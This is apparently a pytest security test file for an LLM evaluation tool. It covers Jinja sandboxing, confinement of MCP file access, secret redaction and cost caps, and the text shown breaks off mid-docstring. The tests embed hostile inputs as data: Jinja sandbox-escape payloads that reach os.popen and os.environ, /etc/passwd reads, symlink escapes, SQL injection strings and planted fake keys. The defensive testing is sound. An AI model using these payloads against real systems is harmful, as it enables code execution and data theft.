"""One test per attack on evalwh (templates, confinement, redaction, cost), each asserting the
harmless outcome.

Templates render in Jinja's sandbox; an MCP client reaches nothing outside its root and runs
no code without ``--allow-code``; text that leaves a provider or a subprocess is redacted
before it is cut; the cost cap counts judges and is enforced on actual spend. The threat
model and the list of defences are in docs/security.md."""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any

import duckdb
import pytest

import evalwh
from evalwh import api
from evalwh.errors import ConfigError
from tests.builders import eval_for
from tests.conftest import run_cli, write
from tests.fakes.lake import Lake
from tests.fakes.servers import FakeLLMServer, error
from tests.features.test_scale_out import eval_yaml
from tests.inprocess import evalwh_inprocess

BASE = """\
name: attack
models:
  - id: m
    provider: mock
    price: 0
MOCK
variants:
  - id: v
    messages:
      - role: user
        content: PROMPT
cases:
  - id: c1
    vars: {question: "What is 2+2"}
    expected: "4"
scorecard:
  - name: has-answer
    type: contains
"""


def base_text(
    *, model: str | None = None, mock: str = "", prompt: str = '"{{ question }}"', cases: str = ""
) -> str:
    """BASE with its parts replaced: the model entry, the mock script, the prompt, the cases."""
    text = BASE.replace("MOCK", mock).replace("PROMPT", prompt)
    if model is not None:
        text = text.replace("  - id: m\n    provider: mock\n    price: 0\n", model + "\n")
    if cases:
        text = text.replace(text[text.index("  - id: c1") : text.index("scorecard:")], cases)
    return text


def config(folder: Path, prompt: str = '"{{ question }}"', mock: str = "", extra: str = "") -> Path:
    return write(folder / "eval.yaml", base_text(mock=mock, prompt=prompt) + extra)


# -- 1. templates run in the sandbox ---------------------------------------------------------


def _popen(marker: Path) -> str:
    return "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}"


ENVIRON = "{{ lipsum.__globals__.os.environ }}"


def _placed(where: str, payload: str) -> dict[str, str]:
    quoted = json.dumps(payload)
    if where == "prompt":
        return {"prompt": quoted}
    if where == "mock-reply":
        return {"mock": f"    mock:\n      default: {quoted}"}
    judge = (
        "judges:\n  - id: j\n    model: {id: jm, provider: mock, price: 0}\n"
        f"    messages:\n      - role: user\n        content: {quoted}\n"
    )
    return {"extra": judge + "  - name: judged\n    type: llm-judge\n    judge: j\n"}


def _with_judge(folder: Path, placed: dict[str, str]) -> Path:
    if "extra" not in placed:
        return config(folder, **placed)
    # the judge criterion joins the scorecard, which ends the base config
    text = base_text()
    judges, criterion = placed["extra"].split("  - name: judged", 1)
    return write(folder / "eval.yaml", text + "  - name: judged" + criterion + judges)


@pytest.mark.parametrize("where", ["prompt", "mock-reply", "judge-prompt"])
@pytest.mark.parametrize("command", [["validate"], ["run", "--dry-run"], ["run"]])
def test_template_popen_payload_is_a_sandbox_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str, command: list[str]
) -> None:
    marker = tmp_path / "pwned"
    path = _with_judge(tmp_path / "p", _placed(where, _popen(marker)))
    code, out, err = evalwh_inprocess(
        capsys, "-o", str(tmp_path / "wh"), *command, "--config", str(path)
    )
    assert code == 2, out + err
    assert "template sandbox violation" in err and str(path) in err
    assert "line 1 of the template" in err
    assert not marker.exists(), "the payload ran a command"
    assert not (tmp_path / "wh" / "warehouse.duckdb").exists()


@pytest.mark.parametrize("where", ["prompt", "mock-reply", "judge-prompt"])
def test_template_environ_payload_is_a_sandbox_error(tmp_path: Path, where: str) -> None:
    path = _with_judge(tmp_path, _placed(where, ENVIRON))
    with pytest.raises(ConfigError, match="sandbox violation: access to '__globals__'") as info:
        api.validate(path, output_dir=tmp_path / "wh")
    assert info.value.file == str(path) and info.value.line is not None  # the YAML line


def test_template_attribute_from_data_is_refused_when_rendered(tmp_path: Path) -> None:
    path = config(tmp_path, prompt='"{{ question|attr(name) }}"')
    text = path.read_text().replace('{question: "What is 2+2"}', "{question: q, name: __class__}")
    path.write_text(text)
    with pytest.raises(ConfigError, match="sandbox violation") as info:
        api.render_prompt(path, "v", "c1")
    assert "c1" in info.value.message


@pytest.mark.parametrize(
    ("attribute", "expected"),
    [("__class__", "sandbox violation"), ("nmae", "has no attribute 'nmae'")],
)
def test_an_undefined_value_inside_a_printed_list_is_an_error(
    tmp_path: Path, attribute: str, expected: str
) -> None:
    # `map(attribute=...)` hands back undefined values in a list; printed, Jinja showed them
    # as "[Undefined]" in the prompt (an unsafe attribute and a typo alike), with no error
    path = config(tmp_path, prompt=f"\"{{{{ [case] | map(attribute='{attribute}') | list }}}}\"")
    with pytest.raises(ConfigError, match=expected) as info:
        api.render_prompt(path, "v", "c1")
    assert "c1" in info.value.message
    good = config(tmp_path / "ok", prompt="\"{{ [case, case] | map(attribute='id') | list }}\"")
    assert "['c1', 'c1']" in json.dumps(api.render_prompt(good, "v", "c1"))


def test_template_payload_in_mcp_render_prompt_is_refused(tmp_path: Path) -> None:
    from evalwh.mcp import tools
    from evalwh.mcp.agent import Agent

    marker = tmp_path / "pwned"
    root = tmp_path / "root"
    config(root, prompt=json.dumps(_popen(marker)))
    agent = Agent(root=root.resolve(), cwd=root)
    with pytest.raises(ConfigError, match="sandbox violation"):
        tools.render_prompt(agent, "eval.yaml", "v", "c1")
    assert not marker.exists()


# -- 3. redaction: first redact, then cut ----------------------------------------------------

GATEWAY_KEY = "PLANTEDcorpcred-nonshaped-99-0123456789abcdef"  # the key in use: not key-shaped
STRAY_BEARER = "PLANTEDbearer-token-unknown-0123456789"  # known to nobody, after "Bearer"
OPENAI_SHAPED = "sk-PLANTEDopenai01" + "A" * 30  # shaped like an OpenAI key
KEYS = (GATEWAY_KEY, STRAY_BEARER, OPENAI_SHAPED)


def _user_text(req: Any) -> str:
    last = req.body["messages"][-1]["content"]
    return last if isinstance(last, str) else "".join(p.get("text", "") for p in last)


def _leaks(data: bytes | str) -> list[str]:
    """Every 8-character prefix of a planted key that ``data`` holds."""
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    return [key[:8] + "..." for key in KEYS if key[:8] in text]


def test_key_straddling_the_error_cut_leaves_no_prefix(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.fakes.servers import FakeLLMServer, error, raw

    replies = {
        # a body that is not JSON: excerpt cut at 200 characters, the key across the cut
        "body": raw(500, "x" * 190 + " key " + GATEWAY_KEY + " end"),
        # the API's own error message: cut at 1,000 characters
        "message": error(400, "y" * 990 + " " + GATEWAY_KEY + " end"),
        "bearer": error(401, "z" * 185 + " got Authorization: Bearer " + STRAY_BEARER),
        "shaped": error(400, "w" * 995 + " " + OPENAI_SHAPED),
    }
    monkeypatch.setenv("CORP_CRED", GATEWAY_KEY)  # a name that does not look secret
    out = tmp_path / "out"
    with FakeLLMServer() as server:
        server.responder = lambda req: replies[_user_text(req)]
        model = (
            f"  - {{id: m, provider: openai-compatible, model: local, price: 0, max_retries: 0,"
            f" base_url: '{server.openai_url}', api_key_env: CORP_CRED}}"
        )
        cases = "\n".join(
            f"  - {{id: {name}, vars: {{question: {name}}}, expected: x}}" for name in replies
        )
        path = write(tmp_path / "eval.yaml", base_text(model=model, cases=cases + "\n"))
        run = run_cli("--json", "run", "--config", str(path), "-o", str(out))
    assert run.returncode != 2, run.stderr
    report = json.loads(run.stdout)
    assert report["totals"]["n_errors"] == 4
    outputs = [run.stdout, run.stderr]
    for command in (["show", "latest", "--failures"], ["--json", "show", "latest", "--failures"]):
        shown = run_cli(*command, "-o", str(out))
        outputs += [shown.stdout, shown.stderr]
    for fmt in ("json", "csv", "md", "junit"):
        exported = run_cli("export", "latest", "--format", fmt, "-o", str(out))
        assert exported.returncode == 0, exported.stderr
        outputs += [exported.stdout, exported.stderr]
    import duckdb

    with duckdb.connect(str(out / "warehouse.duckdb"), read_only=True) as con:
        errors = [r[0] for r in con.execute("SELECT error FROM cases").fetchall()]
        every_text = str(
            con.execute(
                "SELECT CAST(c AS VARCHAR) FROM cases c UNION ALL SELECT CAST(s AS VARCHAR) "
                "FROM scores s UNION ALL SELECT CAST(r AS VARCHAR) FROM runs r"
            ).fetchall()
        )
    assert len(errors) == 4 and any("Bearer ***" in e for e in errors), errors
    files = [p for p in out.rglob("*") if p.is_file()]
    assert any(p.suffix == ".parquet" for p in files)
    leaks = {str(p): _leaks(p.read_bytes()) for p in files}
    leaks |= {f"output {i}": _leaks(text) for i, text in enumerate(outputs)}
    leaks["cases table"] = _leaks(every_text)
    assert not any(leaks.values()), {k: v for k, v in leaks.items() if v}


def _printing_env(folder: Path, names: list[str], pass_env: list[str]) -> Path:
    program = write(
        folder / "model.py",
        "import json, os, sys\nsys.stdin.read()\n"
        f"print(json.dumps({{'text': ' '.join(os.environ.get(n, '-') for n in {names!r})}}))\n",
    )
    mock = (
        f"    command: [{json.dumps(sys.executable)}, {json.dumps(str(program))}]\n"
        f"    pass_env: {json.dumps(pass_env)}"
    )
    text = base_text(mock=mock, prompt="hi").replace("provider: mock", "provider: command")
    return write(folder / "eval.yaml", text)


SECRET_ENV = {
    "FOO_PASSWORD": "hunter2-password-value",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "X_KEY": "x-key-value-0123456789",
}


ECHO_MOCK = (
    "    mock:\n      default: \"echo sk-proj-{{ 'E' * 40 }} and planted-answer-token-value\"\n"
)


def echoing_config(
    folder: Path, monkeypatch: pytest.MonkeyPatch, redact_outputs: bool, extra: str = ""
) -> Path:
    """A config whose mock answer echoes a key and a secret-named variable's value."""
    monkeypatch.setenv("ANSWER_SERVICE_TOKEN", "planted-answer-token-value")
    privacy = "" if redact_outputs else "privacy:\n  redact_outputs: false\n"
    return write(folder / "eval.yaml", base_text(mock=ECHO_MOCK) + extra + privacy)


@pytest.mark.parametrize("redact_outputs", [True, False])
def test_an_answer_echoing_a_key_is_stored_and_exported_redacted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, redact_outputs: bool
) -> None:
    path = echoing_config(tmp_path, monkeypatch, redact_outputs)
    out = tmp_path / "out"
    result = api.run_eval(path, output_dir=out)
    stored = api.open_warehouse(out / "warehouse.duckdb").cases(result.run_id)["output"][0]
    exported = run_cli("export", "latest", "--format", "json", "-o", str(out))
    assert exported.returncode == 0, exported.stderr
    key = "sk-proj-" + "E" * 40
    if redact_outputs:
        assert stored == "echo *** and ***"
        assert key[:12] not in exported.stdout and "planted-answer" not in exported.stdout
    else:  # the opt-out stores what the model wrote
        assert stored == f"echo {key} and planted-answer-token-value"
        assert key in exported.stdout


NO_KEY_SCORER = "  - name: no-key\n    type: not-contains\n    value: sk-proj-\n"


@pytest.mark.parametrize("redact_outputs", [True, False])
def test_an_answer_echoing_a_key_is_not_in_the_cache_files_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, redact_outputs: bool
) -> None:
    # the response cache is a file of its own (settings.cache_dir); an answer echoing a key
    # is redacted before it is cached, scored or stored, so a replay from the cache scores
    # the very answer the warehouse holds, criterion by criterion
    extra = NO_KEY_SCORER + "settings:\n  cache_dir: cache\n"
    path = echoing_config(tmp_path, monkeypatch, redact_outputs, extra)
    out = tmp_path / "out"
    first = api.run_eval(path, output_dir=out)
    replay = api.run_eval(path, output_dir=out)
    cache_file = tmp_path / "cache" / "cache.duckdb"
    held = b"".join(p.read_bytes() for p in cache_file.parent.iterdir())
    with duckdb.connect(str(cache_file), read_only=True) as con:
        cached = con.execute("SELECT output FROM response_cache").fetchall()
    stored = [api.open_warehouse(out / "warehouse.duckdb").cases(r.run_id) for r in (first, replay)]
    with duckdb.connect(str(out / "warehouse.duckdb"), read_only=True) as con:
        scores = [
            con.execute(
                "SELECT criterion, score, passed FROM scores WHERE run_id = ? ORDER BY criterion",
                [r.run_id],
            ).fetchall()
            for r in (first, replay)
        ]
    key = "sk-proj-" + "E" * 40
    assert list(stored[1]["cached"]) == [True]  # the replay sent nothing
    assert scores[0] == scores[1]
    if redact_outputs:
        assert cached == [("echo *** and ***",)]
        assert key[:12].encode() not in held and b"planted-answer" not in held
        assert [s["output"][0] for s in stored] == ["echo *** and ***"] * 2
        assert scores[0] == [("has-answer", 0.0, False), ("no-key", 1.0, True)]
    else:  # the opt-out caches, scores and stores what the model wrote
        assert cached == [(f"echo {key} and planted-answer-token-value",)]
        assert key.encode() in held  # the bytes show what the file holds
        assert scores[0] == [("has-answer", 0.0, False), ("no-key", 0.0, False)]


def test_command_provider_printing_secret_env_is_redacted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRET_ENV.items():
        monkeypatch.setenv(name, value)
    names = list(SECRET_ENV)
    # passed on purpose (pass_env): the program sees them, the stored answer does not
    path = _printing_env(tmp_path / "passed", names, names)
    result = api.run_eval(path, output_dir=tmp_path / "out")
    output = api.open_warehouse(tmp_path / "out" / "warehouse.duckdb").cases(result.run_id)
    text = output["output"][0]
    assert text == "*** *** ***"
    # not passed: the program gets the environment without secrets
    path = _printing_env(tmp_path / "stripped", names, [])
    result = api.run_eval(path, output_dir=tmp_path / "out", no_cache=True)
    output = api.open_warehouse(tmp_path / "out" / "warehouse.duckdb").cases(result.run_id)
    assert output["output"][0] == "- - -"


def test_exec_check_env_is_the_same_for_cached_and_fresh_answers(tmp_path: Path) -> None:
    from tests.fakes.servers import FakeLLMServer

    dump = tmp_path / "envs.txt"
    with FakeLLMServer() as server:
        model = (
            f"  - {{id: m, provider: openai-compatible, model: local, price: 0,"
            f" base_url: '{server.openai_url}', api_key_env: CORP_CRED}}"
        )
        text = base_text(model=model)
        check = f"    check: 'env | grep -v -e ^ANSWER= -e ^PWD= | sort >> {dump}; echo ---- >> {dump}'\n"
        text = text.replace('    expected: "4"\n', '    expected: "4"\n' + check)
        path = write(tmp_path / "eval.yaml", text)
        env = {"CORP_CRED": GATEWAY_KEY}
        fresh = run_cli("run", "--config", str(path), "-o", str(tmp_path / "out"), env=env)
        cached = run_cli(
            "--json", "run", "--config", str(path), "-o", str(tmp_path / "out"), env=env
        )
        assert server.count == 1, fresh.stderr + cached.stderr  # the second answer was cached
    assert json.loads(cached.stdout)["stats"]["cache_hits"] == 1
    first, second, _ = dump.read_text().split("----\n")
    assert first == second
    assert GATEWAY_KEY not in first and "CORP_CRED" not in first
    assert "PATH=" in first


def _csv_cases(folder: Path, allow: str = "") -> Path:
    write(folder / "cases.csv", f"id,question,expected\nc1,use {OPENAI_SHAPED} please,4\n")
    return write(folder / "eval.yaml", base_text(cases=f"  - file: cases.csv{allow}\n"))


def test_key_in_a_csv_case_is_refused(tmp_path: Path) -> None:
    path = _csv_cases(tmp_path)
    with pytest.raises(ConfigError, match="looks like an API key") as info:
        api.validate(path, output_dir=tmp_path / "wh")
    assert info.value.file == str(tmp_path / "cases.csv") and info.value.line == 2
    assert "allow_secret_like: [question]" in (info.value.fix or "")


def test_key_in_a_csv_case_is_allowed_by_allow_secret_like(tmp_path: Path) -> None:
    path = _csv_cases(tmp_path, allow="\n    allow_secret_like: [question]")
    assert api.validate(path, output_dir=tmp_path / "wh").cases == 1


# -- 2. MCP: every path inside the root, no code without --allow-code -------------------------


def _agent(root: Path, *, allow_code: bool = False) -> Any:
    from evalwh.mcp.agent import Agent

    return Agent(root=root.resolve(), cwd=root, allow_code=allow_code)


def _refusal(root: Path, **agent: Any) -> Any:
    from evalwh.config.confinement import ConfinementError
    from evalwh.mcp import tools

    with pytest.raises(ConfinementError) as info:
        tools.render_prompt(_agent(root, **agent), "eval.yaml", "v", "c1")
    return info.value


def test_mcp_secrets_file_named_as_csv_cases_is_refused(tmp_path: Path) -> None:
    secrets = write(
        Path(os.environ["EVALWH_CONFIG_DIR"]) / "secrets.yaml", f"OPENAI_API_KEY: {OPENAI_SHAPED}\n"
    )
    root = tmp_path / "root"
    write(root / "eval.yaml", base_text(cases=f"  - {{file: '{secrets}', format: csv}}\n"))
    error = _refusal(root)
    assert [(v.key, v.path) for v in error.violations] == [("cases[0].file", str(secrets))]
    assert "outside the root" in str(error) and OPENAI_SHAPED[:8] not in str(error)


def test_mcp_prompt_etc_passwd_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "root"
    text = base_text().replace(
        '    messages:\n      - role: user\n        content: "{{ question }}"\n',
        "    prompt: /etc/passwd\n",
    )
    write(root / "eval.yaml", text)
    error = _refusal(root)
    assert [(v.key, v.path) for v in error.violations] == [("variants[0].prompt", "/etc/passwd")]
    assert "root:" not in str(error)  # nothing of the file


def test_mcp_symlink_inside_root_pointing_out_is_refused(tmp_path: Path) -> None:
    outside = write(tmp_path / "private.csv", "id,question,expected\nc1,private data,4\n")
    root = tmp_path / "root"
    write(root / "eval.yaml", base_text(cases="  - file: data/cases.csv\n"))
    (root / "data").mkdir()
    (root / "data" / "cases.csv").symlink_to(outside)
    error = _refusal(root)
    assert [v.key for v in error.violations] == ["cases[0].file"]
    assert str(outside) in str(error) and "private data" not in str(error)


@pytest.mark.parametrize("place", ["output_schema", "criterion"])
def test_mcp_schema_file_outside_the_root_is_refused(tmp_path: Path, place: str) -> None:
    """Attack: a config inside the root names the user's secrets file as a variant's
    `output_schema.schema_file` (or a json-schema criterion's): its content would be sent to
    the model as the schema to follow."""
    secrets = write(
        Path(os.environ["EVALWH_CONFIG_DIR"]) / "secrets.yaml", f"OPENAI_API_KEY: {OPENAI_SHAPED}\n"
    )
    root = tmp_path / "root"
    text = base_text()
    if place == "output_schema":
        text = text.replace(
            "variants:\n  - id: v\n",
            f"variants:\n  - id: v\n    output_schema:\n      schema_file: '{secrets}'\n",
        )
        key = "variants[0].output_schema.schema_file"
    else:
        text += f"  - {{name: js, type: json-schema, request: auto, schema_file: '{secrets}'}}\n"
        key = "scorecard[1].schema_file"
    write(root / "eval.yaml", text)
    error = _refusal(root)
    assert [(v.key, v.path) for v in error.violations] == [(key, str(secrets))]
    assert "outside the root" in str(error) and OPENAI_SHAPED[:8] not in str(error)


def test_mcp_root_holds_for_a_file_the_key_check_does_not_know(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack: a file kind the check of a config's keys does not list yet (as
    `output_schema.schema_file` was not): the reader itself refuses it outside the root, before
    opening it, while the config loads and while the run goes."""
    from evalwh.config import confinement

    monkeypatch.setattr(confinement, "referenced_paths", lambda data: [])
    secrets = write(
        Path(os.environ["EVALWH_CONFIG_DIR"]) / "secrets.yaml", f"OPENAI_API_KEY: {OPENAI_SHAPED}\n"
    )
    root = tmp_path / "root"
    for key, text in (
        (
            "variants[0].output_schema.schema_file",
            base_text().replace(
                "  - id: v\n", f"  - id: v\n    output_schema: {{schema_file: '{secrets}'}}\n"
            ),
        ),
        (
            "variants[0].prompt",
            base_text().replace(
                '    messages:\n      - role: user\n        content: "{{ question }}"\n',
                f"    prompt: '{secrets}'\n",
            ),
        ),
        ("cases[0].file", base_text(cases=f"  - {{file: '{secrets}', format: csv}}\n")),
    ):
        write(root / "eval.yaml", text)
        error = _refusal(root)
        assert [(v.key, v.path) for v in error.violations] == [(key, str(secrets))]
        assert OPENAI_SHAPED[:8] not in str(error)
    criterion = f"  - {{name: js, type: json-schema, schema_file: '{secrets}'}}\n"
    write(root / "eval.yaml", base_text() + criterion)  # read when the run builds its scorers
    from evalwh.config.confinement import ConfinementError
    from evalwh.mcp import tools

    agent = _agent(root)
    agent.output_dir = tmp_path / "out"
    with pytest.raises(ConfinementError) as caught:
        tools.run_eval(agent, "eval.yaml")
    assert [v.key for v in caught.value.violations] == ["scorecard[1].schema_file"]


def test_a_symlink_in_a_dir_source_to_a_file_outside_is_refused(tmp_path: Path) -> None:
    """Attack: a downloaded image folder holds `b.png -> ~/private/secret.png`; `evalwh run`
    would copy the linked file into artifacts/ and send it to the model."""
    outside = tmp_path / "private" / "secret.png"
    outside.parent.mkdir()
    outside.write_bytes(b"\x89PNG\r\n\x1a\nPRIVATE-BYTES")
    project = tmp_path / "project"
    write(project / "images" / "a.png", "\x89PNG\r\n\x1a\npublic")
    (project / "images" / "b.png").symlink_to(outside)
    cfg = write(
        project / "eval.yaml",
        base_text(
            prompt='"{{ file_name }}"', cases='  - {dir: images, glob: "*.png", as: photo}\n'
        ),
    )
    for attempt in (api.validate, evalwh.run_eval):
        with pytest.raises(ConfigError) as caught:
            attempt(cfg, output_dir=tmp_path / "out")
        error = caught.value
        assert (error.file, error.where) == (str(cfg), "cases[0].dir")
        assert f"resolves to {outside}, outside that folder" in error.message
    stored = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert not any(b"PRIVATE-BYTES" in p.read_bytes() for p in stored)
    (project / "images" / "b.png").unlink()  # the folder's own files still make cases
    assert api.validate(cfg, output_dir=tmp_path / "out").cases == 1


def test_mcp_symlinked_file_matched_by_a_jsonl_glob_is_refused(tmp_path: Path) -> None:
    """Attack: a config inside the root (on a server started with --allow-code) reads
    `shards/*.jsonl`, and `shards/1.jsonl` links to a file outside the root."""
    from evalwh.mcp import tools
    from tests.builders import DATASOURCE_HEAD

    outside = write(tmp_path / "private.jsonl", '{"id": "p", "q": "PRIVATE-ROW"}\n')
    root = tmp_path / "root"
    write(root / "shards" / "0.jsonl", '{"id": "a", "q": "x"}\n')
    (root / "shards" / "1.jsonl").symlink_to(outside)
    pattern = "cases: [{source: jsonl-glob, params: {pattern: 'shards/*.jsonl'}}]\n"
    write(root / "eval.yaml", DATASOURCE_HEAD + pattern)
    agent = _agent(root, allow_code=True)
    agent.output_dir = tmp_path / "out"
    with pytest.raises(ConfigError) as caught:
        tools.run_eval(agent, "eval.yaml")
    error = caught.value
    assert error.where == "cases[0].params.pattern"
    assert f"resolves to {outside}, outside that folder" in error.message
    assert "PRIVATE-ROW" not in str(error)
    stored = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert not any(b"PRIVATE-ROW" in p.read_bytes() for p in stored)


def _python_scorer_config(root: Path) -> None:
    write(root / "scorers.py", "def ok(output, case):\n    return True\n")
    text = base_text() + "  - name: py\n    type: python\n    function: scorers.py:ok\n"
    write(root / "eval.yaml", text)


def test_mcp_python_scorer_without_allow_code_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "root"
    _python_scorer_config(root)
    error = _refusal(root)
    assert [(v.key, v.path) for v in error.violations] == [
        ("scorecard[1].function", "scorers.py:ok")
    ]
    assert "--allow-code" in str(error)
    assert error.to_dict()["violations"][0]["key"] == "scorecard[1].function"


def test_mcp_python_scorer_with_allow_code_is_accepted(tmp_path: Path) -> None:
    from evalwh.mcp import tools

    root = tmp_path / "root"
    _python_scorer_config(root)
    agent = _agent(root, allow_code=True)
    agent.output_dir = tmp_path / "out"
    assert tools.render_prompt(agent, "eval.yaml", "v", "c1")["messages"]
    brief = tools.run_eval(agent, "eval.yaml")
    assert brief["totals"]["n"] == 1


def test_mcp_command_provider_and_exec_check_without_allow_code_are_refused(
    tmp_path: Path,
) -> None:
    root = tmp_path / "root"
    text = base_text(mock="    command: [./model.sh]").replace(
        "provider: mock", "provider: command"
    )
    write(root / "eval.yaml", text)
    assert [v.key for v in _refusal(root).violations] == ["models[0].provider"]
    text = base_text().replace('    expected: "4"\n', '    expected: "4"\n    check: "true"\n')
    write(root / "eval.yaml", text)
    assert [v.key for v in _refusal(root).violations] == ["eval.yaml cases[0] check"]


def test_mcp_render_prompt_output_is_redacted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from evalwh.mcp import tools

    monkeypatch.setenv("SERVICE_TOKEN", "planted-service-token-value")
    root = tmp_path / "root"
    write(
        root / "eval.yaml",
        base_text().replace(
            '"What is 2+2"', '"token planted-service-token-value, ghp_' + "a" * 36 + '"'
        ),
    )
    data = tools.render_prompt(_agent(root), "eval.yaml", "v", "c1")
    text = json.dumps(data)
    assert "planted-service" not in text and "ghp_aaaa" not in text
    assert data["messages"][0]["content"][0]["text"] == "token ***, ***"


def _tools(allow_code: bool = False) -> Any:
    from mcp import Client

    from evalwh.mcp.server import build_server

    return Client(build_server(_agent(Path.cwd(), allow_code=allow_code)))


def test_mcp_unknown_argument_is_refused() -> None:
    async def go() -> None:
        async with _tools() as client:
            tools = {t.name: t for t in (await client.list_tools()).tools}
            assert all(t.input_schema.get("additionalProperties") is False for t in tools.values())
            result = await client.call_tool("list_runs", {"limit": 3, "sneaky": "x"})
            assert result.is_error and "sneaky" in result.content[0].text
            assert "--allow-code" in (tools["run_eval"].description or "")
            assert "refused" in (tools["render_prompt"].description or "")

    asyncio.run(go())


def test_mcp_a_string_counts_as_an_int_only_when_it_spells_one_exactly() -> None:
    """Type confusion through a string argument: what generic clients send ("5") is taken,
    anything that is not exactly an integer or boolean (an expression, a float, a padded or
    signed form, a word) is refused naming the argument, and the bounds hold after it."""

    async def go() -> None:
        async with _tools() as client:
            fine = await client.call_tool("list_runs", {"limit": "5"})
            assert not fine.is_error, fine.content
            for limit in ("5 OR 1=1", "5; DROP TABLE runs", "5.5", "+5", " 5", "0x5", "five"):
                result = await client.call_tool("list_runs", {"limit": limit})
                assert result.is_error, limit
                assert "argument 'limit' must be an integer" in result.content[0].text
            for page in ("0", "-1"):
                result = await client.call_tool("get_run", {"page": page, "detail": "failures"})
                assert result.is_error and "greater than or equal to 1" in result.content[0].text
            result = await client.call_tool("list_runs", {"limit": "1000"})
            assert result.is_error and "less than or equal to 100" in result.content[0].text

    asyncio.run(go())


# -- 4. the cost cap counts judges and holds during the run ---------------------------------

FIVE_CASES = "".join(
    f"  - {{id: c{i}, vars: {{question: 'q{i}'}}, expected: x}}\n" for i in range(1, 6)
)
PRICED_JUDGE = """\
  - name: judged
    type: llm-judge
    judge: j
judges:
  - id: j
    model: {id: judge-model, provider: mock, price: {input_per_mtok: 15, output_per_mtok: 75}}
"""


def _run_capped(
    capsys: pytest.CaptureFixture[str], path: Path, cap: Any, out: Path
) -> tuple[int, str, str]:
    """`evalwh --json run --config PATH --max-cost CAP -o OUT`, in process."""
    return evalwh_inprocess(
        capsys, "--json", "run", "--config", str(path), "--max-cost", str(cap), "-o", str(out)
    )


def test_free_model_with_priced_judge_over_the_cap_is_refused_up_front(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "eval.yaml", base_text(cases=FIVE_CASES) + PRICED_JUDGE)
    code, out, err = _run_capped(capsys, path, "0.05", tmp_path / "wh")
    assert code == 4, out + err
    refusal = json.loads(out)
    assert refusal["estimate_usd"] > 0.05 and refusal["calls"] == 10  # 5 answers + 5 judgements
    assert not (tmp_path / "wh" / "warehouse.duckdb").exists()
    estimate = api.validate(path, output_dir=tmp_path / "wh").estimate
    assert estimate is not None
    judge = next(r for r in estimate["by_model"] if "judge" in r["model"])
    assert judge["calls"] == 5 and judge["cost_usd"] == pytest.approx(estimate["cost_usd"])


def test_mcp_free_model_with_priced_judge_over_the_cap_is_refused(tmp_path: Path) -> None:
    from evalwh.engine.budget import CostCapError
    from evalwh.mcp import tools

    root = tmp_path / "root"
    write(root / "eval.yaml", base_text(cases=FIVE_CASES) + PRICED_JUDGE)
    agent = _agent(root)
    agent.output_dir = tmp_path / "out"
    with pytest.raises(CostCapError) as info:
        tools.run_eval(agent, "eval.yaml", max_cost_usd=0.05)
    assert info.value.estimate_usd is not None and info.value.estimate_usd > 0.05


def test_pairwise_judging_in_both_orders_and_repeats_are_estimated(tmp_path: Path) -> None:
    text = base_text(cases=FIVE_CASES).replace(
        "  - id: m\n", "  - id: m2\n    provider: mock\n    price: 0\n  - id: m\n"
    )
    pairwise = "pairwise:\n  - {name: p, judge: j, baseline: {model: m}, candidate: {model: m2}}\n"
    judges = PRICED_JUDGE[PRICED_JUDGE.index("judges:") :]
    path = write(tmp_path / "eval.yaml", text + judges + pairwise)
    estimate = api.validate(path, output_dir=tmp_path / "wh", repeat=3).estimate
    assert estimate is not None
    judge = next(r for r in estimate["by_model"] if "judge" in r["model"])
    assert judge["calls"] == 5 * 3 * 2  # cases x repeats x both orders


def test_mock_reply_longer_than_max_tokens_stops_the_run_at_the_cap(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import duckdb

    model = (
        "  - id: m\n    provider: mock\n    params: {max_tokens: 10}\n"
        "    price: {input_per_mtok: 1000, output_per_mtok: 1000}\n"
        "    mock:\n      default: \"{{ 'lorem ipsum ' * 400 }}\""  # ~1,200 tokens, not 10
    )
    cases = "".join(f"  - {{id: c{i}, vars: {{question: q{i}}}, expected: x}}\n" for i in range(3))
    path = write(
        tmp_path / "eval.yaml", "settings: {concurrency: 1}\n" + base_text(model=model, cases=cases)
    )
    cap = 0.05
    code, out, err = _run_capped(capsys, path, str(cap), tmp_path / "wh")
    assert code == 4, out + err
    result = json.loads(out)
    assert result["status"] == "stopped" and "cost cap $0.0500 reached" in result["stop_reason"]
    with duckdb.connect(str(tmp_path / "wh" / "warehouse.duckdb"), read_only=True) as con:
        status, reason = con.execute(
            "SELECT status, totals->>'stop_reason' FROM runs"
        ).fetchone() or (None, None)
        costs = [r[0] for r in con.execute("SELECT cost_usd FROM cases").fetchall()]
        tokens = con.execute("SELECT input_tokens FROM cases").fetchone()
    assert status == "stopped" and reason == result["stop_reason"]
    # The rule (evalwh.engine.budget, docs/security.md): a request is sent only while spent +
    # in-flight reservations + its reservation <= cap; its reservation is its input estimate
    # plus max_tokens of output. At concurrency 1 the spend passes the cap by at most what the
    # one request in flight cost beyond its reservation.
    assert len(costs) == 1  # the first answer showed the real size; no second was sent
    input_tokens = tokens[0] if tokens else 0
    reservation = (1 + 10) * 1000 / 1e6  # "q0" renders to 2 characters: 1 input token estimated
    assert reservation <= cap
    overrun = costs[0] - reservation
    assert sum(costs) <= cap + overrun
    assert input_tokens >= 1 and sum(costs) < 3 * costs[0]  # unbounded, all three were sent


def test_an_mcp_clients_config_cannot_point_the_run_at_a_lake(tmp_path: Path) -> None:
    """Attack: a client's eval.yaml names `ducklake:postgres:host=attacker...`, and the server
